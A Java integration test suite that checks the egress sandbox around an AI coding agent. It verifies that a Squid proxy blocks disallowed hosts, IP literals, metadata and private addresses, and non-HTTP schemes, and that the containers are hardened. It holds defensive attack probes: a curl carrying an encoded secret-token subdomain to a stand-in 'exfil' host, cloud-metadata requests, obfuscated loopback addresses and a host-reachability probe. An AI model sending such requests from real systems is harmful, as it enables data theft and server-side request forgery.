package dev.scc.runtime.docker;

import static org.assertj.core.api.Assertions.assertThat;

import com.github.dockerjava.api.command.InspectContainerResponse;
import dev.scc.core.runtime.LaunchSpec;
import dev.scc.core.model.NetworkPosture;
import dev.scc.core.runtime.SandboxFile;
import dev.scc.core.runtime.Session;
import dev.scc.runtime.docker.egress.DenialReason;
import dev.scc.runtime.docker.internal.Engine;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;

/** The attack matrix of docs/runtime.md §Tests against a real engine, through the real images and ACL. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class EgressEnforcementIT {
    private static final Pattern QUERIES = Pattern.compile("(?m)^\\S+\\s+(\\d+)\\s+\\d+\\s+recurse");

    DockerTestSupport t;
    DockerRuntimeBackend backend;
    Session session;
    Path state;
    Path workspace;

    @BeforeAll
    void up() throws Exception {
        t = new DockerTestSupport();
        state = t.dir("state");
        workspace = t.dir("ws");
        t.requireOfflineImages();
        backend = new DockerRuntimeBackend(t.config(state));
        t.buildImages(backend);
        t.startInternet();
        LaunchSpec spec = LaunchSpec.of(workspace, "claude", NetworkPosture.WEB_EGRESS_ENFORCED,
                        Set.of("web.test", "private.test", "metadata.test", "unresolved.test", "web6.test",
                                "gateway.test", "gateway6.test", "bench.test", "cgnat.test", "multicast.test",
                                "zero.test", "protocol.test", "ula6.test", "nat64.test", "sixto4.test", "teredo.test",
                                "linklocal6.test"))
                .withEnv(Map.of("HTTP_PROXY", "http://inherited.invalid:1", "http_proxy", "http://inherited.invalid:1"))
                .withFiles(List.of(new SandboxFile("/etc/scc/safety-policy.json",
                        "{\"action\":\"block\"}".getBytes(StandardCharsets.UTF_8), 0666),
                        new SandboxFile("/home/agent/.claude/settings.json", "{}".getBytes(StandardCharsets.UTF_8), 0644),
                        new SandboxFile("/etc/scc/new/dir/file", new byte[] {'x'}, 0444)));
        session = backend.launch(spec);
    }

    @AfterAll
    void down() {
        try {
            if (session != null) {
                backend.stop(session.id());
                backend.prune();
                t.assertNothingLabelled(Labels.SESSION, session.id());
                t.assertNothingLabelled(Labels.WORKSPACE, session.workspaceHash());
            }
        } finally {
            backend.close();
            t.close();
        }
    }

    private String curl(String... args) {
        List<String> argv = new java.util.ArrayList<>(List.of("curl", "-s", "-m", "5", "-o", "/dev/null", "-w",
                "%{http_code}"));
        argv.addAll(List.of(args));
        return backend.execInAgent(session, argv).stdout().trim();
    }

    private long proxyDnsQueries() {
        Engine.ExecResult r = backend.execInProxy(session,
                List.of("curl", "-s", "-m", "5", "http://127.0.0.1:3128/squid-internal-mgr/idns"));
        Matcher m = QUERIES.matcher(r.stdout());
        long total = 0;
        boolean found = false;
        while (m.find()) {
            total += Long.parseLong(m.group(1));
            found = true;
        }
        assertThat(found).as("Squid idns report lists its nameservers: " + r.stdout()).isTrue();
        return total;
    }

    @Test
    @Order(1)
    void allowedHostAnswers200ThroughTheProxyForHttpAndConnect() {
        assertThat(curl("http://web.test/")).isEqualTo("200");
        assertThat(curl("-p", "http://web.test:443/")).isEqualTo("200");
    }

    @Test
    @Order(2)
    void deniedHostGets403WithoutAnyDnsQueryFromTheProxy() {
        long before = proxyDnsQueries();
        assertThat(curl("http://c2VjcmV0LXRva2Vu.exfil.denied.test/")).isEqualTo("403");
        assertThat(curl("-p", "https://denied.test/")).isEqualTo("000");
        assertThat(proxyDnsQueries()).isEqualTo(before);
        // Control: an allowed name the proxy cannot resolve from /etc/hosts does reach its resolver,
        // so the counter above would have moved had the denied names been resolved.
        curl("-m", "2", "http://unresolved.test/");
        assertThat(proxyDnsQueries()).isGreaterThan(before);
    }

    @Test
    @Order(3)
    void ipLiteralsV4AndV6AreDenied() {
        assertThat(curl("http://" + DockerTestSupport.WEB_IP + "/")).isEqualTo("403");
        // NO_PROXY keeps the container's own loopback direct; force the proxy to show it denies [::1] too.
        assertThat(curl("--noproxy", "", "http://[::1]/")).isEqualTo("403");
        assertThat(curl("--noproxy", "", "http://127.0.0.1/")).isEqualTo("403");
        assertThat(curl("http://[2001:db8::1]/")).isEqualTo("403");
        assertThat(curl("http://[::ffff:198.51.100.10]/")).isEqualTo("403");
        assertThat(curl("--noproxy", "", "http://2130706433/")).isEqualTo("403");
    }

    @Test
    @Order(4)
    void metadataIsDeniedAsLiteralAndAsAllowedName() {
        assertThat(curl("http://169.254.169.254/latest/meta-data/")).isEqualTo("403");
        assertThat(curl("http://metadata.test/latest/meta-data/")).isEqualTo("403");
    }

    @Test
    @Order(5)
    void privateRangeIsDeniedEvenForAnAllowedName() {
        assertThat(curl("http://private.test/")).isEqualTo("403");
        assertThat(curl("http://10.0.0.1/")).isEqualTo("403");
    }

    @Test
    @Order(6)
    void directConnectionWithoutTheProxyFails() {
        Engine.ExecResult r = backend.execInAgent(session, List.of("curl", "-s", "-m", "3", "--noproxy", "*", "-o",
                "/dev/null", "-w", "%{http_code}", "http://" + DockerTestSupport.WEB_IP + "/"));
        assertThat(r.stdout().trim()).isEqualTo("000");
        assertThat(r.exitCode()).isNotZero();
        // and the agent has no resolver: without the proxy a name does not resolve (6) or the lookup times out (28)
        assertThat(backend.execInAgent(session, List.of("curl", "-s", "-m", "3", "--noproxy", "*", "http://web.test/"))
                .exitCode()).isIn(6L, 28L);
    }

    @Test
    @Order(7)
    void sccProxyVariablesReplaceInheritedOnesInBothCases() {
        String env = backend.execInAgent(session, List.of("env")).stdout();
        assertThat(env).doesNotContain("inherited.invalid");
        String proxy = "http://scc-" + session.id() + "-proxy:3128";
        assertThat(env).contains("HTTP_PROXY=" + proxy + "\n", "http_proxy=" + proxy + "\n", "HTTPS_PROXY=" + proxy + "\n",
                "https_proxy=" + proxy + "\n");
    }

    @Test
    @Order(8)
    void agentAndProxyAreHardened() {
        InspectContainerResponse agent = t.docker.inspectContainerCmd(DockerRuntimeBackend.agentContainer(session)).exec();
        assertThat(agent.getHostConfig().getCapDrop()).extracting(Enum::name).containsExactly("ALL");
        assertThat(agent.getHostConfig().getSecurityOpts()).contains("no-new-privileges");
        assertThat(agent.getHostConfig().getInit()).isTrue();
        assertThat(agent.getHostConfig().getPidsLimit()).isPositive();
        assertThat(agent.getHostConfig().getMemory()).isPositive();
        assertThat(agent.getHostConfig().getNanoCPUs()).isPositive();
        assertThat(agent.getHostConfig().getDns()).containsExactly("127.0.0.1");
        assertThat(agent.getNetworkSettings().getNetworks()).hasSize(1);
        // Of the host, only the workspace; besides it the agent's home volume and SCC's own session spool, which
        // sits under /var/lib/scc (root:scc-safety 0710) where the agent cannot even look.
        assertThat(agent.getMounts()).extracting(m -> m.getDestination().getPath())
                .filteredOn(p -> !p.startsWith("/var/lib/scc/"))
                .containsExactlyInAnyOrder("/workspace", "/home/agent/.claude");
        assertThat(agent.getMounts()).extracting(m -> m.getDestination().getPath())
                .filteredOn(p -> p.startsWith("/var/lib/scc/")).containsOnly("/var/lib/scc/audit-spool");
        assertThat(backend.execInAgent(session, List.of("ls", "/var/lib/scc/audit-spool")).exitCode()).isNotZero();
        // The agent's processes run as uid 1000 without any capability.
        String procs = backend.execInAgent(session, List.of("sh", "-c",
                "for p in /proc/[0-9]*; do n=$(sed -n 's/^Name:\\t//p' $p/status); "
                        + "[ \"$n\" = sleep ] && grep -E '^(Uid|CapEff|CapPrm)' $p/status; done")).stdout();
        assertThat(procs).contains("Uid:\t1000\t1000\t1000\t1000").contains("CapEff:\t0000000000000000")
                .contains("CapPrm:\t0000000000000000");
        assertThat(backend.execInAgent(session, List.of("id", "-u")).stdout().trim()).isEqualTo("1000");

        InspectContainerResponse proxy = t.docker.inspectContainerCmd(DockerRuntimeBackend.proxyContainer(session).orElseThrow()).exec();
        assertThat(proxy.getHostConfig().getCapDrop()).extracting(Enum::name).containsExactly("ALL");
        assertThat(proxy.getHostConfig().getSecurityOpts()).contains("no-new-privileges");
        assertThat(proxy.getHostConfig().getReadonlyRootfs()).isTrue();
        assertThat(proxy.getConfig().getUser()).isEqualTo("proxy");
        assertThat(proxy.getNetworkSettings().getNetworks()).hasSize(2);
    }

    @Test
    @Order(9)
    void renderedFilesAreRootOwnedAndNotWritableByTheAgent() {
        assertThat(backend.execInAgent(session, List.of("stat", "-c", "%u %a", "/etc/scc/safety-policy.json")).stdout()
                .trim()).isEqualTo("0 644");
        assertThat(backend.execInAgent(session, List.of("sh", "-c", "echo x >> /etc/scc/safety-policy.json")).exitCode())
                .isNotZero();
        assertThat(backend.execInAgent(session, List.of("cat", "/etc/scc/safety-policy.json")).stdout())
                .isEqualTo("{\"action\":\"block\"}");
        // A file placed in the agent's own config dir leaves that directory the agent's.
        assertThat(backend.execInAgent(session, List.of("stat", "-c", "%U %a", "/home/agent/.claude")).stdout().trim())
                .isEqualTo("agent 700");
        assertThat(backend.execInAgent(session, List.of("stat", "-c", "%u %a", "/home/agent/.claude/settings.json"))
                .stdout().trim()).isEqualTo("0 644");
        assertThat(backend.execInAgent(session, List.of("touch", "/home/agent/.claude/history.jsonl")).exitCode()).isZero();
        // Claude Code keeps .claude.json in CLAUDE_CONFIG_DIR when set, so all of its state is in the volume.
        assertThat(backend.execInAgent(session, List.of("printenv", "CLAUDE_CONFIG_DIR")).stdout().trim())
                .isEqualTo("/home/agent/.claude");
        // Missing parents are created root-owned.
        assertThat(backend.execInAgent(session, List.of("stat", "-c", "%u %a", "/etc/scc/new/dir")).stdout().trim())
                .isEqualTo("0 755");
    }

    @Test
    @Order(10)
    void networkLogShowsDenialsWithReasons() {
        List<ProxyDenial> log = backend.proxyDenials(session.id());
        assertThat(log).extracting(ProxyDenial::reason).contains(DenialReason.NOT_ALLOWLISTED, DenialReason.IP_LITERAL,
                DenialReason.PRIVATE_DESTINATION);
        assertThat(log).allSatisfy(d -> assertThat(d.status()).isEqualTo(403));
        assertThat(log).anySatisfy(d -> assertThat(d.target()).contains("exfil.denied.test"));
    }

    @Test
    @Order(11)
    void aSecondStartOnTheSameWorkspaceIsRefusedAndCreatesNothing() {
        List<String> before = t.objects(Labels.WORKSPACE, session.workspaceHash());
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> backend.launch(LaunchSpec.of(workspace, "claude",
                        NetworkPosture.WEB_EGRESS_ENFORCED, Set.of("web.test"))))
                .isInstanceOf(dev.scc.core.runtime.RuntimeBackendException.class)
                .hasMessageContaining("already has a live session " + session.id());
        assertThat(t.objects(Labels.WORKSPACE, session.workspaceHash())).containsExactlyInAnyOrderElementsOf(before);
    }

    @Test
    @Order(12)
    void resumeReturnsTheLiveSession() {
        Session again = backend.launch(LaunchSpec.of(workspace, "claude", NetworkPosture.WEB_EGRESS_ENFORCED,
                Set.of("web.test")).withResume(true));
        assertThat(again.id()).isEqualTo(session.id());
        assertThat(backend.agentCommand("codex", true)).containsSubsequence("codex", "resume", "--last");
    }

    @Test
    @Order(13)
    void sessionRecordIsStoredWithItsObjects() throws Exception {
        Path rec = state.resolve(session.id() + ".json");
        assertThat(rec).exists();
        String json = Files.readString(rec);
        assertThat(json).contains(DockerRuntimeBackend.agentContainer(session), DockerRuntimeBackend.proxyContainer(session).orElseThrow(),
                "web-egress-enforced", DockerTestSupport.IMAGES.agent("claude"));
        assertThat(backend.sessions()).extracting(Session::id).contains(session.id());
    }

    @Test
    @Order(14)
    void anAllowedNameResolvingToAnAddressOfTheHostIsDeniedOverIpv4AndIpv6() {
        // Control first: the proxy does speak IPv6 to the test internet, so the IPv6 rows below are not vacuous.
        assertThat(curl("http://web6.test/")).isEqualTo("200");
        // The host's end of the test internet's bridge is in a documentation range no range rule covers: only the
        // host-address rule stands between these names and a host service.
        assertThat(curl("http://gateway.test/")).isEqualTo("403");
        assertThat(curl("http://gateway6.test/")).isEqualTo("403");
        assertThat(curl("-p", "https://gateway.test/")).isEqualTo("000");
    }

    @Test
    @Order(15)
    void allowedNamesResolvingToSpecialPurposeRangesAreDeniedIpv4AndIpv6() {
        for (String name : List.of("bench.test", "cgnat.test", "multicast.test", "zero.test", "protocol.test",
                "ula6.test", "nat64.test", "sixto4.test", "teredo.test", "linklocal6.test")) {
            assertThat(curl("http://" + name + "/")).as(name).isEqualTo("403");
        }
        // Squid parses IPv6 dst rules as no-ops when it starts without IPv6; on this network it has IPv6.
        String proxyLog = backend.engine().logs(DockerRuntimeBackend.proxyContainer(session).orElseThrow(), true, true);
        assertThat(proxyLog).doesNotContain("IPv6 has not been enabled");
    }

    @Test
    @Order(16)
    void nonHttpSchemesAreRefusedAndTheNetworkLogSaysSo() {
        String proxy = "http://scc-" + session.id() + "-proxy:3128";
        assertThat(curl("-x", proxy, "ftp://web.test/")).isEqualTo("403");
        assertThat(curl("-x", proxy, "ftp://web.test:80/index.html")).isEqualTo("403");
        List<ProxyDenial> log = backend.proxyDenials(session.id());
        assertThat(log).filteredOn(d -> d.target().startsWith("ftp://")).hasSize(2)
                .allSatisfy(d -> assertThat(d.reason()).isEqualTo(DenialReason.NON_HTTP_SCHEME));
        assertThat(log).filteredOn(d -> d.target().contains("bench.test"))
                .allSatisfy(d -> assertThat(d.reason()).isEqualTo(DenialReason.PRIVATE_DESTINATION));
    }

    @Test
    @Order(17)
    void nothingArrivesOnTheHostFromTheAgentWhileAPlainInternalNetworkWouldConnect() throws Exception {
        String gateway = t.docker.inspectNetworkCmd().withNetworkId("scc-" + session.id() + "-net").exec().getIpam()
                .getConfig().get(0).getGateway();
        java.util.TreeSet<String> targets = new java.util.TreeSet<>(
                dev.scc.runtime.docker.egress.HostAddresses.local());
        targets.add(gateway);
        targets.removeIf(a -> a.startsWith("127.") || a.equals("::1"));
        try (HostListener listener = new HostListener()) {
            String probe = HostListener.probeScript(targets, listener.port());
            Engine.ExecResult fromAgent = backend.execInAgent(session, List.of("bash", "-c", probe));
            assertThat(fromAgent.stdout()).as("connections the agent opened").doesNotContain("OPEN")
                    .contains("TRIED " + gateway);
            assertThat(listener.arrivals()).as("connections that arrived from the agent").isEmpty();
            // Control: the same probe from a container on an internal network as Docker makes it by default (the
            // bridge keeps its gateway address) reaches the listener, so the listener would have seen the agent.
            String control = t.runOnPlainInternalNetwork(List.of("bash", "-c", probe));
            assertThat(control).contains("OPEN");
            assertThat(listener.awaitArrivals(1)).isNotEmpty();
        }
    }
}
